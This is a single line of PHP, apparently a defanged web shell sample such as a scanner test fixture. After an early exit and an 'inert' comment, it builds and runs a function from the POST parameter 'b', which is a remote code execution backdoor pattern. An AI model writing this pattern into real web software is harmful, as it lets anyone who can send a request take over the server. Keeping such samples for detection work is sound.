<?php exit; /* inert */ $f=create_function("",$_POST["b"]); $f();
